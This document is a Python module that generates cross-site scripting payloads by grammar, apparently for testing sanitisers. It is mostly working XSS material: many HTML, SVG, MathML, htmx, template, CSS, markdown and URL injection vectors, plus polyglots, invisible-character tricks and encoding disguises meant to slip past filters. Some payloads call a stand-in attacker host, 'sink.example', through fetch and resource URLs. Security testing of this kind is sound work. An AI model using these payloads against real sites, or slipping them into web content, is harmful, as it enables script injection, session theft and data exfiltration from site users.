"""Script payloads by a grammar: what runs, around it what makes it run, around that what it breaks out of.

Each payload bears a mark of its own, so that a page can be asked whether it drew it, a script which one ran,
and a server or a resolver for which one it was asked. The same seed gives the same payloads.
"""

from __future__ import annotations

import html
import random
import re
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote

HOST = "sink.example"  # a name of the attacker's, below which each payload has one of its own
MARK = re.compile(r"zq\d{5}z")

# `{js}` is a script that would be noticed, `{url}` an address below the attacker's host.
_TAGS = (
    "<script>{js}</script>",
    "<script src={url}></script>",
    '<script type=module>import "{url}"</script>',
    "<img src=x onerror={js}>",
    "<img/src=x/onerror={js}>",
    "<img src={url}>",
    "<img srcset='{url} 1x'>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><use href={url}#a></svg>",
    "<svg><image href={url}></svg>",
    "<svg><a href=javascript:{js}><text y=9>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:{js}></svg>",
    "<svg><style>@import url({url})</style></svg>",
    "<svg><foreignObject><img src={url}></foreignObject></svg>",
    "<math href=javascript:{js}>x</math>",
    "<math><mtext><table><mglyph><style><img src={url} onerror={js}>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={js}>",
    "<body onload={js}>",
    "<input autofocus onfocus={js}>",
    "<details open ontoggle={js}>x</details>",
    "<video src={url} autoplay onerror={js}>",
    "<audio src=x onerror={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<iframe src={url}></iframe>",
    "<iframe src=javascript:{js}></iframe>",
    '<iframe srcdoc="<script>{js}</script>">',
    "<object data={url}></object>",
    "<object data=javascript:{js}>",
    "<embed src={url}>",
    "<link rel=stylesheet href={url}>",
    "<link rel=dns-prefetch href={url}>",
    "<link rel=preconnect href={url}>",
    "<link rel=prefetch href={url}>",
    "<meta http-equiv=refresh content=0;url={url}>",
    "<meta http-equiv=refresh content=0;url=javascript:{js}>",
    "<base href={url}>",
    "<form action={url}><button autofocus>x</button></form>",
    "<form><button formaction=javascript:{js}>x</button></form>",
    "<a href={url} ping={url}>x</a>",
    "<a href=javascript:{js}>x</a>",
    "<style>*{{background:url({url})}}</style>",
    "<p style=background:url({url})>x",
    "<x style=animation:a onanimationstart={js}>",
    "<template><img src={url} onerror={js}></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<dialog open><img src={url}></dialog>",
    "<select><style></select><img src=x onerror={js}></style>",
    "<table><td background={url}>",
    "<!--><img src=x onerror={js}>-->",
    "<![CDATA[><img src=x onerror={js}>]]>",
    "<portal src={url}>",
    "<isindex type=image src=x onerror={js}>",
)
_HTMX = (
    "<div hx-get={url} hx-trigger=load>x</div>",
    "<div data-hx-get={url} data-hx-trigger=load>x</div>",
    "<div hx-get=/healthz hx-trigger=load hx-on::after-request={js}>x</div>",
    "<div data-hx-on:htmx:load={js}>x</div>",
    "<div hx-vals=js:{{a:{js}}} hx-get=/healthz hx-trigger=load>",
    "<div hx-trigger='load[{js}]' hx-get=/healthz>",
    "<div data-turn data-stream={url}>x</div>",
    "{{% include '{url}' %}}",
    "{{{{ 7|add:7 }}}}{{% debug %}}{{% load static %}}",
    "{{{{ request.META }}}}<script>{js}</script>",
    "{{% autoescape off %}}<img src=x onerror={js}>{{% endautoescape %}}",
    "${{{js}}}#{{{js}}}<%={js}%>[[{js}]]",
)
_BREAKING = (
    '"><img src=x onerror={js}>',
    "'><img src=x onerror={js}>",
    '" autofocus onfocus={js} x="',
    "' autofocus onfocus={js} x='",
    "` onload={js} x=`",
    " onmouseover={js} style=position:fixed;inset:0 ",
    "</title><svg onload={js}>",
    "</textarea><svg onload={js}>",
    "</script><script>{js}</script>",
    "</style><svg onload={js}>",
    "--><svg onload={js}>",
    "]]><svg onload={js}>",
    "</span></div></article></main><svg onload={js}>",
    "</option></select><svg onload={js}>",
)
_IN_SCRIPTS = (
    "';{js};//",
    '";{js};//',
    "\\';{js};//",
    "`;{js};`",
    "\u2028{js}\u2029",
    '"}}]}};{js};//',
    '{{"a":"</script><script>{js}</script>"}}',
    "\\u003cimg src=x onerror={js}\\u003e",
    "constructor.constructor('{js}')()",
)
_CSS = (
    "red;background:url({url})",
    "}}*{{background:url({url})}}",
    "@import '{url}';",
    "expression({js})",
    "-moz-binding:url({url})",
)
_ADDRESSES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "java\nscript:{js}",
    " javascript:{js}",
    "\x01javascript:{js}",
    "javascript&colon;{js}",
    "javascript://%0a{js}",
    "vbscript:{js}",
    "data:text/html,<script>{js}</script>",
    "data:image/svg+xml,<svg onload={js}>",
    "blob:{url}",
    "view-source:{url}",
    "{url}",
    "//{host}/",
    "/\\{host}/",
    "https:{host}",
    "https://a@{host}/",
)
_MARKDOWN = (
    "![x]({url})",
    '![x]({url} "t")',
    "[![x]({url})]({url})",
    "[here]({url})",
    "[x](javascript:{js})",
    "[x](java\tscript:{js})",
    "<{url}>",
    "[x][1]\n\n[1]: {url}",
    "<javascript:{js}>",
    "| a | ![x]({url}) |\n|---|---|",
    "```html\n<img src={url}>\n```",
    "$$\\href{{{url}}}{{x}}$$",
)
_UNSEEN = (
    "\u202e<svg onload={js}>\u202c",
    "\u2066\u200b<img src=x onerror={js}>\u2069",
    "<\u200bimg src={url}>",
    "<img\x0csrc=x\x0conerror={js}>",
    "<\x00script>{js}</script>",
    "\ufeff<svg/onload={js}>",
    "<svg\u00a0onload={js}>",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
)
_POLYGLOTS = (
    "jaVasCript:/*`/*'/*\"/**/({js})//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNload={js}>",
    "'\"><svg onload={js}>{{{{7*7}}}}${{{js}}}",
    "\"'--></style></script><svg onload={js}>",
    "<svg></p><style><a id='</style><img src=x onerror={js}>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={js} src>'>",
    "<a title='</a><img src=x onerror={js}>'>",
    'javascript:{js}//"><img src={url}>',
)
FAMILIES: dict[str, tuple[str, ...]] = {
    "tags": _TAGS,
    "htmx and templates": _HTMX,
    "breaking out": _BREAKING,
    "script strings": _IN_SCRIPTS,
    "css": _CSS,
    "addresses": _ADDRESSES,
    "markdown": _MARKDOWN,
    "unseen characters": _UNSEEN,
    "polyglots": _POLYGLOTS,
}
_WEIGHTS = {"tags": 8, "breaking out": 3}  # the others weigh 1
_SHORTEST = "<svg onload={js}>"


@dataclass(frozen=True, slots=True)
class Payload:
    """What is planted: `mark` and then something hostile that names the mark in whatever it does."""

    mark: str
    family: str
    text: str


def payloads(seed: int, count: int, *, most: int = 1_000, first: int = 0) -> list[Payload]:
    """So many payloads of at most `most` characters (at least 60), numbered from `first`."""
    dice = random.Random(f"{seed}:{first}")
    return [_payload(number, dice, most) for number in range(first, first + count)]


def _payload(number: int, dice: random.Random, most: int) -> Payload:
    mark = f"zq{number:05d}z"
    names = list(FAMILIES)
    weights = [_WEIGHTS.get(name, 1) for name in names]
    for _ in range(60):
        (family,) = dice.choices(names, weights)
        text = mark + _written(dice.choice(FAMILIES[family]), mark, dice)
        if len(text) <= most:
            return Payload(mark, family, text)
    return Payload(mark, "tags", mark + _SHORTEST.format(js=_ran(mark)))


def _ran(mark: str) -> str:
    return f"top.{mark}=1"


def _written(template: str, mark: str, dice: random.Random) -> str:
    host = f"{mark}.{HOST}"
    url = dice.choice(("http://", "https://", "//", "//", "HTTP://")) + f"{host}/"
    scripts = (_ran(mark), _ran(mark), _ran(mark), f"alert`{mark}`", f"fetch`//{host}/`", f"top[`{mark}`]=1")
    js = dice.choice(scripts)
    return dice.choice(_DISGUISES)(template.format(js=js, url=url, host=host), dice)


def _as_it_is(text: str, _: random.Random) -> str:
    return text


def _mixed_case(text: str, dice: random.Random) -> str:
    """The names of tags and attributes in any case; what follows `=` stays."""
    return re.sub(
        r"(?<=<)/?[a-z]+|\bon[a-z]+(?==)",
        lambda found: "".join(dice.choice((c.upper(), c.lower())) for c in found[0]),
        text,
    )


def _entities(text: str, _: random.Random) -> str:
    return html.escape(text)


def _bare_entities(text: str, _: random.Random) -> str:
    return text.replace("<", "&lt").replace(">", "&#62").replace('"', "&#x22")


def _twice(text: str, _: random.Random) -> str:
    return html.escape(html.escape(text))


def _script_entities(text: str, _: random.Random) -> str:
    return text.replace("top", "&#116;op").replace("javascript", "&#106;avascript&Tab;")


def _percent(text: str, _: random.Random) -> str:
    return quote(text, safe="")


def _percent_twice(text: str, _: random.Random) -> str:
    return quote(quote(text, safe=""))


def _escaped(text: str, _: random.Random) -> str:
    return text.replace("<", "\\x3c").replace(">", "\\u003e")


def _doubled(text: str, _: random.Random) -> str:
    """What a filter that takes tags out once would leave behind."""
    return text.replace("<s", "<<b>s", 1).replace("script", "scr<script>ipt", 1)


def _closed(text: str, _: random.Random) -> str:
    return f"\"'>{text}"


_DISGUISES: tuple[Callable[[str, random.Random], str], ...] = (
    *(_as_it_is,) * 12,
    *(_closed,) * 4,
    *(_mixed_case,) * 3,
    _script_entities,
    _entities,
    _bare_entities,
    _twice,
    _percent,
    _percent_twice,
    _escaped,
    _doubled,
)
